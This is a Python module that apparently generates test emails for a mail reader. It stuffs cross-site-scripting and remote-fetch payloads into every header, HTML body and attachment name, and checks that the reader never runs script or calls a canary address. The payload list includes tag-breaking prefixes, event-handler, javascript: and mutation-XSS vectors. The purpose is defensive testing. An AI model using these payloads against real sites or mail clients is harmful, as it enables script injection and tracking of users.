"""Two hundred mails that want to run a script in the reader's browser, or to call home."""

from collections.abc import Iterator
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from itertools import islice, product

COUNT = 200
RAN = "XSS-RAN"
SCRIPT = f"console.log('{RAN}');new Image().src='CANARY/ran'"

BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</pre>", "</script>", "-->", "]]>", "`>")
"""What would end the place in which a text stands."""

TAGS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src=CANARY/s.js></script>",
    '<img src=x onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>x",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src=javascript:{js}></iframe>",
    "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<template><img src=x onerror={js}></template>",
    "<a href=javascript:{js} autofocus>x</a>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={js}>x</b>",
    "<img src=CANARY/i.png>",
    "<img srcset='CANARY/i2.png 1x'>",
    "<link rel=stylesheet href=CANARY/l.css>",
    "<link rel=prefetch href=CANARY/p>",
    "<style>@import url(CANARY/c.css);</style>",
    "<div style='background:url(CANARY/b.png)'>x</div>",
    "<svg><filter id=f><feImage href=CANARY/f.svg></filter></svg>",
    "<svg><use href=CANARY/u.svg#a></svg>",
    "<meta http-equiv=refresh content='0;url=CANARY/m'>",
    "<base href=CANARY/>",
    "<iframe src=CANARY/if></iframe>",
    "<video poster=CANARY/v.png src=CANARY/v.mp4 autoplay></video>",
    "<object data=CANARY/o></object>",
    "<input type=image src=CANARY/in.png>",
    "{{{{7*7}}}}{{% import os %}}<b hx-get=CANARY/h hx-trigger=load>x</b>",
    "\u202e<script>{js}</script>\u2066",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "%3Cscript%3E{js}%3C/script%3E",
)


def payloads(canary: str) -> list[str]:
    """COUNT different texts; `canary` is the address that must never be asked."""
    return list(islice(_all(canary), COUNT))


def _all(canary: str) -> Iterator[str]:
    for out, tag in product(BREAKS, TAGS):
        yield out + tag.format(js=SCRIPT).replace("CANARY", canary)


def mail(number: int, payload: str) -> bytes:
    """An application with the payload wherever a mail can have one."""
    made = MIMEMultipart()
    made["From"] = f"{Header(payload, 'utf-8').encode()} <p{number}@example.org>"
    made["To"] = "tosci@example.org"
    made["Subject"] = Header(f"Technical Officer {payload}", "utf-8").encode()
    made["Date"] = Header(payload, "utf-8").encode()
    made["Message-ID"] = f"<{number}@example.org>"
    made["X-Note"] = Header(payload, "utf-8").encode()
    both = MIMEMultipart("alternative")
    both.attach(MIMEText(f"Please find my CV attached. {payload}\n", "plain", "utf-8"))
    both.attach(MIMEText(f"<html><body><p>Hello</p>{payload}</body></html>", "html", "utf-8"))
    made.attach(both)
    words = f"Curriculum vitae\n{payload}\nWork experience 2010 - 2020\nEducation\n".encode()
    name = f"cv {payload}.txt" if number % 3 else f"{payload}.html"
    part = MIMEApplication(words, "octet-stream")
    part.add_header("Content-Disposition", "attachment", filename=("utf-8", "", name))
    made.attach(part)
    return made.as_bytes()
